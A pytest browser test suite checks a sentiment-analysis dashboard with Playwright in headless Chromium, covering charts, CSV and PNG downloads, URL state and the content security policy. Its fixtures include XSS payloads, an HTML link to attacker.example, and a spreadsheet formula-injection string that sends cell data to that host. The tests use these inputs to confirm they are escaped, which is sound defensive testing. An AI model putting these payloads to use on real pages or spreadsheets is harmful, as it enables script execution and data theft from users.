"""The dashboard in real headless Chromium against a real uvicorn over a seeded database."""

from __future__ import annotations

import csv
import json
import os
import shutil
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest

from dashboard.packing import pack, unpack
from ravine.analytics import make_periods
from ravine.db import make_engine, make_session_factory, session_scope
from ravine.repository.apikeys import create_key
from tests.api.conftest import load_sample_into
from tests.dashboard.test_packing import three_years_of_days
from tests.databases import DatabaseFactory
from tests.server import serving

CHROMIUM = "/usr/bin/chromium"
FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
    "--disable-component-update", "--no-first-run", "--disable-sync",
]  # fmt: skip
XSS = ["<script>alert('xss')</script> terrible service", "<img src=x onerror=alert(2)> so bad"]
# A statement whose title is markup: shown as text wherever the page shows titles.
HTML_TITLE = '<a href="https://attacker.example/">Click</a> <b style="color:red">now</b>'
# A text a spreadsheet would run as a formula, were it written as it is.
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1, "click me") worst airline'

WEEK = {"entity": "northwind-air", "freq": "week", "since": "2025-06-02", "until": "2025-08-31"}

sync_api = pytest.importorskip("playwright.sync_api", reason="Playwright for Python is missing")


@pytest.fixture(scope="module")
def chromium_path() -> str:
    if shutil.which(CHROMIUM):
        return CHROMIUM
    if os.environ.get("CI"):
        pytest.fail(f"{CHROMIUM} is missing; .ci/run installs Debian's chromium")
    pytest.skip(f"no Chromium at {CHROMIUM} (apt-get install chromium chromium-driver)")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, chromium_path: str) -> Iterator[str]:
    """The sample plus two documents that try to run script, served by `ravine serve`."""
    url = DatabaseFactory("sqlite", tmp_path_factory.mktemp("site")).migrated()
    load_sample_into(url)
    engine = make_engine(url)
    with session_scope(make_session_factory(engine), write=True) as session:
        _, key = create_key(session, name="browser-tests")
    engine.dispose()
    with serving(url) as base:
        documents = [
            {"external_id": f"xss-{i}", "text": text, "created_at": "2025-07-16T12:00:00Z"}
            for i, text in enumerate([*XSS, FORMULA])
        ]
        pushed = httpx.post(
            f"{base}/api/v1/documents", headers={"X-API-Key": key}, timeout=30,
            json={"entity": "northwind-air", "voice": "public", "documents": documents},
        )  # fmt: skip
        assert pushed.status_code == 200, pushed.text
        statement = {"external_id": "html-title", "title": HTML_TITLE,
                     "text": "We are pleased.", "created_at": "2025-07-15T14:00:00Z"}  # fmt: skip
        pushed = httpx.post(
            f"{base}/api/v1/documents", headers={"X-API-Key": key}, timeout=30,
            json={"entity": "northwind-air", "voice": "corporate", "documents": [statement]},
        )  # fmt: skip
        assert pushed.status_code == 200, pushed.text
        yield base


@pytest.fixture
def page(site: str, chromium_path: str) -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium_path, args=FLAGS)
        # The tests' own scripts (wait_for_function) are evaluated strings, which the page's
        # content policy forbids; test_the_page_keeps_to_its_content_policy runs without this.
        context = browser.new_context(
            viewport={"width": 1280, "height": 1000}, accept_downloads=True, bypass_csp=True
        )
        tab = context.new_page()
        tab.dialogs = []
        tab.on("dialog", lambda dialog: (tab.dialogs.append(dialog.message), dialog.dismiss()))
        yield tab
        browser.close()


def open_chart(page: Any, site: str, **params: str) -> None:
    query = "&".join(f"{k}={v}" for k, v in params.items())
    page.goto(f"{site}/?{query}")
    page.wait_for_function("document.getElementById('chart').dataset.points !== undefined")


def trace_points(page: Any) -> dict[str, int]:
    return page.evaluate(
        """() => Object.fromEntries(document.getElementById('chart').data
            .filter(t => t.meta && t.meta.role === 'voice').map(t => [t.meta.voice, t.x.length]))"""
    )


def figure_body(site: str, **params: str) -> dict[str, Any]:
    body: dict[str, Any] = httpx.get(f"{site}/dashboard/figure", params=params, timeout=30).json()
    return body


def expected_periods(site: str, **params: str) -> list[str]:
    """The period labels: the x of the voice lines the server packed."""
    figure = unpack(figure_body(site, **params)["figure"])
    periods: list[str] = next(t["x"] for t in figure["data"] if t["meta"]["role"] == "voice")
    return periods


def test_chart_draws_every_period_and_a_screenshot_is_kept(
    page: Any, site: str, tmp_path: Path
) -> None:
    open_chart(page, site, **WEEK)
    periods = expected_periods(site, **WEEK)
    assert trace_points(page) == {"corporate": len(periods), "public": len(periods)}
    assert page.locator("#chart .main-svg").count() > 0
    shot = tmp_path / "dashboard.png"
    page.screenshot(path=str(shot), full_page=True)
    assert shot.stat().st_size > 20_000
    print(f"dashboard screenshot: {shot}")


def test_clicking_a_period_lists_its_documents_as_text(page: Any, site: str) -> None:
    open_chart(page, site, **WEEK)
    periods = expected_periods(site, **WEEK)
    target = periods.index("2025-07-14")  # the week holding the script-like posts
    point = page.evaluate(
        """(index) => {
            const chart = document.getElementById('chart');
            const trace = chart.data.findIndex(t => t.meta && t.meta.voice === 'public');
            const layout = chart._fullLayout;
            const x = layout.xaxis.d2p(chart.data[trace].x[index]) + layout.xaxis._offset;
            const y = layout.yaxis.d2p(chart.data[trace].y[index]) + layout.yaxis._offset;
            const box = chart.getBoundingClientRect();
            return {x: box.left + x, y: box.top + y};
        }""",
        target,
    )
    page.mouse.move(point["x"], point["y"])
    page.mouse.click(point["x"], point["y"])
    page.wait_for_selector("#docs-public tr td.text")
    assert page.locator("#drill-title").inner_text() == "Documents of 2025-07-14"
    cells = page.locator("#docs-public td.text").all_inner_texts()
    assert any(XSS[0] in text for text in cells) and any(XSS[1] in text for text in cells)
    assert page.locator("#docs-public img, #docs-public script").count() == 0
    assert page.locator("#docs-corporate tr").count() > 1
    page.wait_for_timeout(300)
    assert page.dialogs == []  # nothing ran


@pytest.mark.slow
def test_the_view_lives_in_the_url(page: Any, site: str) -> None:
    open_chart(page, site, **WEEK)
    page.fill("#entity", "helio-bank")
    page.dispatch_event("#entity", "change")
    page.wait_for_function("document.getElementById('chart').dataset.entity === 'helio-bank'")
    assert "entity=helio-bank" in page.url
    page.select_option("#freq", "month")
    page.wait_for_function("location.search.includes('freq=month')")
    page.select_option("#metric", "net")
    page.wait_for_function("location.search.includes('metric=net')")
    url = page.url
    page.goto("about:blank")
    page.goto(url)
    page.wait_for_function("document.getElementById('chart').dataset.entity === 'helio-bank'")
    assert page.input_value("#freq") == "month" and page.input_value("#metric") == "net"
    assert page.input_value("#entity") == "helio-bank"
    periods = expected_periods(site, entity="helio-bank", freq="month", since="2025-06-02",
                               until="2025-08-31")  # fmt: skip
    assert trace_points(page)["public"] == len(periods) == 3


@pytest.mark.slow
def test_series_csv_download_has_a_row_per_period(page: Any, site: str, tmp_path: Path) -> None:
    open_chart(page, site, **WEEK)
    with page.expect_download() as download:
        page.click("#download-csv")
    path = tmp_path / "series.csv"
    download.value.save_as(path)
    rows = list(csv.DictReader(path.open()))
    assert [r["period"] for r in rows] == expected_periods(site, **WEEK)


@pytest.mark.slow
def test_an_unknown_entity_shows_the_error_not_a_blank_chart(page: Any, site: str) -> None:
    page.goto(f"{site}/?entity=nobody")
    page.wait_for_selector("#status.error")
    assert "no entity 'nobody'" in page.inner_text("#status")


@pytest.mark.slow
def test_statements_open_their_reaction_window_from_the_keyboard(page: Any, site: str) -> None:
    open_chart(page, site, **WEEK)
    options = page.locator("#statement option").all_inner_texts()
    assert len(options) > 1 and "Northwind Air news" in options[1]
    page.focus("#statement")
    page.keyboard.press("ArrowDown")
    page.wait_for_function("document.getElementById('reaction-body').textContent.includes('days')")
    text = page.inner_text("#reaction-body")
    assert "3 days before" in text and "change" in text


@pytest.mark.slow
def test_the_page_unpacks_exactly_the_figure_the_server_packed(page: Any, site: str) -> None:
    open_chart(page, site, **WEEK)
    unpacked = "(packed) => { const { data, layout } = unpack(packed); return { data, layout }; }"
    packed = figure_body(site, **WEEK)["figure"]
    assert page.evaluate(unpacked, packed) == unpack(packed)
    figure = three_years_of_days()
    assert page.evaluate(unpacked, json.loads(json.dumps(pack(figure)))) == figure


@pytest.mark.slow
def test_drill_down_asks_for_the_utc_bounds_of_each_period_across_dst(page: Any, site: str) -> None:
    spring = {"entity": "northwind-air", "freq": "day", "since": "2025-03-01",
              "until": "2025-03-31", "tz": "America/New_York"}  # fmt: skip
    open_chart(page, site, **spring)
    found = page.evaluate("() => current.periods.map((_, i) => periodBounds(i))")
    periods = make_periods(since=date(2025, 3, 1), until=date(2025, 3, 31), freq="day",
                           tz="America/New_York")  # fmt: skip
    assert [[datetime.fromisoformat(t) for t in b] for b in found] == [
        list(b) for b in periods.utc_bounds()
    ]
    with page.expect_request(lambda r: "/api/v1/documents" in r.url) as asked:
        page.select_option("#period", label="2025-03-09")  # 23 hours long
    query = parse_qs(urlsplit(asked.value.url).query)
    assert (query["since"], query["until"]) == (["2025-03-09T05:00:00Z"], ["2025-03-10T04:00:00Z"])


@pytest.mark.slow
def test_the_entity_list_is_asked_for_only_once_the_chart_is_drawn(page: Any, site: str) -> None:
    page.add_init_script(
        """new MutationObserver((_, observer) => {
            const chart = document.getElementById('chart');
            if (chart && chart.dataset.points !== undefined) {
                window.drawnAt = performance.now();
                observer.disconnect();
            }
        }).observe(document, { subtree: true, attributes: true });"""
    )
    open_chart(page, site, **WEEK)
    page.wait_for_function("document.getElementById('entity-list').options.length > 0")
    asked = page.evaluate(
        """() => performance.getEntriesByType('resource')
            .find(e => e.name.includes('/api/v1/entities')).startTime"""
    )
    assert asked >= page.evaluate("window.drawnAt")


@pytest.mark.slow
def test_chart_png_and_documents_csv_downloads(page: Any, site: str, tmp_path: Path) -> None:
    open_chart(page, site, **WEEK)
    with page.expect_download() as download:
        page.click("#download-png")
    png = tmp_path / "chart.png"
    download.value.save_as(png)
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and png.stat().st_size > 20_000
    page.select_option("#period", label="2025-07-14")
    page.wait_for_selector("#docs-public tr td.text")
    with page.expect_download() as download:
        page.click("#download-docs")
    path = tmp_path / "documents.csv"
    download.value.save_as(path)
    rows = list(csv.DictReader(path.open()))
    assert {r["voice"] for r in rows} == {"corporate", "public"}
    assert any(r["text"] == XSS[0] for r in rows)
    # Formula injection (OWASP): a text cell that starts like a formula is written as text.
    assert any(r["text"] == "'" + FORMULA for r in rows)
    assert not any(r[k].startswith(("=", "+", "@")) for r in rows for k in r if k != "compound")
    assert any(r["compound"].startswith("-") for r in rows)  # numbers stay numbers


@pytest.mark.slow
def test_a_repeat_load_of_unchanged_data_transfers_almost_nothing(page: Any, site: str) -> None:
    """The browser revalidates the chart data and the entity list with their ETags: the server
    answers 304, so only headers cross (the page itself still sees its data)."""
    data = """() => performance.getEntriesByType('resource')
        .filter(e => e.name.includes('/dashboard/figure') || e.name.includes('/api/v1/'))
        .map(e => ({name: e.name, bytes: e.transferSize}))"""
    sizes = []
    for _ in range(2):
        open_chart(page, site, **WEEK)
        page.wait_for_function("document.getElementById('entity-list').options.length > 0")
        sizes.append(page.evaluate(data))
    first, repeat = sizes
    assert len(first) == len(repeat) == 2
    assert all(entry["bytes"] > 1_000 for entry in first), first  # the data itself
    assert all(entry["bytes"] < 1_000 for entry in repeat), repeat  # headers only
    assert sum(entry["bytes"] for entry in repeat) <= 5_000
    assert trace_points(page)["public"] > 10


def test_the_page_keeps_to_its_content_policy(site: str, chromium_path: str) -> None:
    """Only the page's own scripts run, it cannot be framed, and nothing it does (drawing the
    chart, downloading it) breaks the policy."""
    response = httpx.get(f"{site}/", timeout=30)
    policy = response.headers["content-security-policy"]
    assert "script-src 'self';" in policy and "frame-ancestors 'none'" in policy
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium_path, args=FLAGS)
        tab = browser.new_context(accept_downloads=True).new_page()
        tab.add_init_script(
            "window.violations = [];"
            "document.addEventListener('securitypolicyviolation', e => window.violations.push("
            "e.violatedDirective + ' ' + e.blockedURI));"
        )
        tab.goto(f"{site}/?" + "&".join(f"{k}={v}" for k, v in WEEK.items()))
        tab.wait_for_selector("#chart[data-points]", state="attached")
        with tab.expect_download() as download:
            tab.click("#download-png")
        assert Path(download.value.path()).stat().st_size > 1000
        assert tab.evaluate("window.violations") == []
        browser.close()


@pytest.mark.slow
def test_a_statement_title_is_hovered_as_text(page: Any, site: str) -> None:
    open_chart(page, site, **WEEK)
    shown = page.evaluate(
        """(title) => {
            const chart = document.getElementById('chart');
            const curve = chart.data.findIndex(t => t.meta && t.meta.role === 'statements');
            const point = chart.data[curve].text.indexOf(title);
            Plotly.Fx.hover(chart, [{curveNumber: curve, pointNumber: point}], 'xy4');
            const layer = document.querySelector('.hoverlayer');
            return {links: layer.querySelectorAll('a').length, text: layer.textContent, point};
        }""",
        HTML_TITLE,
    )
    assert shown["point"] >= 0
    assert shown["links"] == 0 and '<a href="https://attacker.example/">Click</a>' in shown["text"]


def test_only_the_chosen_view_shows_its_controls(page: Any, site: str) -> None:
    open_chart(page, site, **WEEK)
    assert page.is_visible("#chart-view") and not page.is_visible("#compare-label")
    page.click("#show-compare")
    page.wait_for_function("location.search.includes('mode=compare')")
    assert page.is_visible("#compare-label") and not page.is_visible("#chart-view")
